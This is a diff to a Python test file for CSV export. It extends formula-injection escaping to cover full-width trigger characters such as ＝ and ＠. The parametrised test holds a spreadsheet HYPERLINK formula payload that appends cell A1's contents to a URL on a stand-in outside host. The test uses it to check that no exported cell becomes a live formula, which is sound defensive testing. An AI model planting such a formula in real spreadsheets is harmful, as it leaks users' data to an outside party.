@@ -383,7 +383,10 @@ def test_an_event_keeps_its_id_when_another_follows(facts: Catalog) -> None:
 def rows_of(text: str) -> list[dict[str, str]]:
     """Read a table as partners are told to: an apostrophe before what looks like a formula is not text."""
     rows = csv.DictReader(io.StringIO(text, newline=""), strict=True)
-    return [{name: re.sub(r"^'('*[=+\-@\t\r])", r"\1", cell) for name, cell in row.items()} for row in rows]
+    return [
+        {name: re.sub(r"^'('*[=+\-@＝＋－＠\t\r])", r"\1", cell) for name, cell in row.items()}
+        for row in rows
+    ]
 
 
 def as_cell(value: object) -> str:
@@ -421,7 +424,7 @@ def test_tables_keep_to_rfc_4180(facts: Catalog) -> None:
         assert len({len(row) for row in rows}) == 1
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'=", "''@"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'=", "''@"])
 def test_no_cell_is_a_formula_and_none_is_lost(start: str, sample: Catalog) -> None:
     payload = start + 'HYPERLINK("https://elsewhere.example/?" & A1, "x")'
     first, *others = sample.changes
